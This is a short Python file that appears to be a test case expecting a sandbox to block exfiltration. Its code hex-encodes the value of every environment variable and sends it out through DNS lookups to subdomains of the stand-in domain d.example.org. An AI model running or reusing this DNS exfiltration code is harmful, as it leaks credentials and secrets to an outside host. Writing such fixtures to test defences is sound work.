# expect: BLOCKED exfiltration
import os
import socket

env = os.environ.copy()
for key, value in env.items():
    label = value.encode().hex()[:60]
    try:
        socket.gethostbyname(f"{label}.{key.lower()}.d.example.org")
    except OSError:
        pass
